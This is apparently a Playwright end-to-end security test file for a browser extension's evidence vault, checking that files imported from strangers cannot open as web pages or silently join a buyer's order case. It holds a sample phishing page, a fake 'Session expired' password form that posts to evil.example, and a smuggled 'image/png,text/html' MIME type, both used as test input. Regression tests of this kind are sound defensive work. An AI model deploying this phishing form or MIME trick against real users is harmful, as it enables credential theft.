import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test } from '../e2e/harness';
import { craftPack, pngBytes } from '../unit/vault/craft-pack';

/**
 * Issue 12, findings 1 and 8, in a real Chromium: what a stranger's file can
 * do once it is in the vault. Before the fix an item "carton-damage.png" typed
 * "image/png,text/html" opened as an HTML page (a password form) inside the
 * extension's origin, and a pack joined the buyer's own order case unasked.
 */
const PHISHING =
  '<!doctype html><title>Session expired</title><form action="https://evil.example/"><input type="password" name="pw"></form>';

async function openVault(ext: { openExtensionPage(path: string): Promise<Page> }): Promise<Page> {
  const panel = await ext.openExtensionPage('sidepanel.html?tab=vault');
  await expect(panel.getByTestId('vault-panel')).toBeVisible();
  return panel;
}

async function storedMimeTypes(panel: Page): Promise<string[]> {
  return panel.evaluate(async () => {
    const db = await new Promise<IDBDatabase>((ok, fail) => {
      const r = indexedDB.open('tradeguard-vault');
      r.onsuccess = () => ok(r.result);
      r.onerror = () => fail(r.error);
    });
    try {
      const rows = await new Promise<{ mimeType: string }[]>((ok, fail) => {
        const r = db.transaction('items').objectStore('items').getAll();
        r.onsuccess = () => ok(r.result);
        r.onerror = () => fail(r.error);
      });
      return rows.map((r) => r.mimeType);
    } finally {
      db.close();
    }
  });
}

test.describe('files from strangers in the evidence vault', () => {
  test('an item typed "image/png,text/html" never reaches the vault, let alone opens as a page', async ({
    ext,
  }) => {
    const work = mkdtempSync(join(tmpdir(), 'tg-security-'));
    try {
      const pack = await craftPack(
        [
          {
            name: 'carton-damage.png',
            bytes: new TextEncoder().encode(PHISHING),
            mimeType: 'image/png,text/html',
          },
        ],
        { theCase: { orderId: '700000000001' } },
      );
      const path = join(work, 'claim-evidence.zip');
      writeFileSync(path, Buffer.from(await pack.arrayBuffer()));
      const panel = await openVault(ext);
      const before = await storedMimeTypes(panel); // earlier test files may share this browser
      const opened: Page[] = [];
      ext.context.on('page', (p) => opened.push(p));
      await panel.getByTestId('import-input').setInputFiles(path);
      await expect(panel.getByTestId('vault-message')).toHaveAttribute('data-kind', /error|success/, {
        timeout: 30_000,
      });
      // Whatever the import said, try to open every item it left, as a curious buyer would.
      for (const name of await panel.locator('.tg-vault-item__name').all()) await name.click();
      await panel.waitForTimeout(500);
      for (const page of opened) {
        await page.waitForLoadState('domcontentloaded');
        expect(await page.locator('input[type="password"]').count(), page.url()).toBe(0);
      }
      await expect(panel.getByTestId('vault-message')).toContainText('mimeType');
      expect(await storedMimeTypes(panel)).toEqual(before);
      await panel.close();
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
  });

  test('a page snapshot opens as a download; a photo opens as an image', async ({ ext }) => {
    const panel = await openVault(ext);
    await panel.getByLabel('New case').fill('Carton damage');
    await panel.getByRole('button', { name: 'Create' }).click();
    await expect(panel.getByTestId('vault-case-title')).toHaveText('Carton damage');
    await panel.getByTestId('upload-input').setInputFiles([
      { name: 'supplier-page.html', mimeType: 'text/html', buffer: Buffer.from(PHISHING) },
      { name: 'carton.png', mimeType: 'image/png', buffer: Buffer.from(pngBytes(200)) },
    ]);
    await panel.getByTestId('upload-submit').click();
    await expect(panel.getByTestId('vault-message')).toContainText('added and fingerprinted');

    const opened: Page[] = [];
    ext.context.on('page', (p) => opened.push(p));
    const download = panel.waitForEvent('download');
    await panel.locator('.tg-vault-item__name', { hasText: 'supplier-page.html' }).click();
    expect((await download).suggestedFilename()).toMatch(/supplier-page\.html$/);
    await panel.waitForTimeout(500);
    expect(opened).toEqual([]);
    await expect(panel.getByTestId('vault-message')).toContainText('saved as a download');

    const image = ext.context.waitForEvent('page');
    await panel.locator('.tg-vault-item__name', { hasText: 'carton.png' }).click();
    const shown = await image;
    await shown.waitForLoadState('domcontentloaded');
    expect(await shown.evaluate(() => document.contentType)).toBe('image/png');
    await Promise.all([shown.close(), panel.close()]);
  });

  test("a pack for an order the buyer already has asks before joining that order's case", async ({ ext }) => {
    const work = mkdtempSync(join(tmpdir(), 'tg-security-'));
    try {
      const orderId = '700000000002';
      const first = join(work, 'mine.zip');
      writeFileSync(
        first,
        Buffer.from(
          await (
            await craftPack([{ name: 'a.png', bytes: pngBytes(100, 1) }], {
              theCase: { id: 'mine', orderId },
            })
          ).arrayBuffer(),
        ),
      );
      const second = join(work, 'from-supplier.zip');
      writeFileSync(
        second,
        Buffer.from(
          await (
            await craftPack([{ name: 'b.png', bytes: pngBytes(100, 2) }], {
              theCase: { id: 'theirs', orderId },
            })
          ).arrayBuffer(),
        ),
      );
      const panel = await openVault(ext);
      await panel.getByTestId('import-input').setInputFiles(first);
      await expect(panel.getByTestId('vault-message')).toContainText('Imported 1 file');
      await expect(panel.getByTestId('vault-case-title')).toHaveText(`Order #${orderId}`);
      // Marked as imported, with what the pack claimed kept apart.
      await expect(panel.locator('[data-testid^="item-claim-"]')).toContainText('Screenshot');

      await panel.getByTestId('import-input').setInputFiles(second);
      await expect(panel.getByTestId('import-question')).toContainText(`Order #${orderId}`);
      await expect(panel.getByTestId('vault-message')).toContainText('nothing was imported yet');
      await panel.getByTestId('import-separate').click();
      await expect(panel.getByTestId('vault-message')).toContainText('Imported 1 file into a new case');
      await expect(panel.getByTestId('vault-case-title')).toContainText('(imported');
      await expect(panel.getByTestId('import-question')).toHaveCount(0);
      await panel.close();
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
  });
});
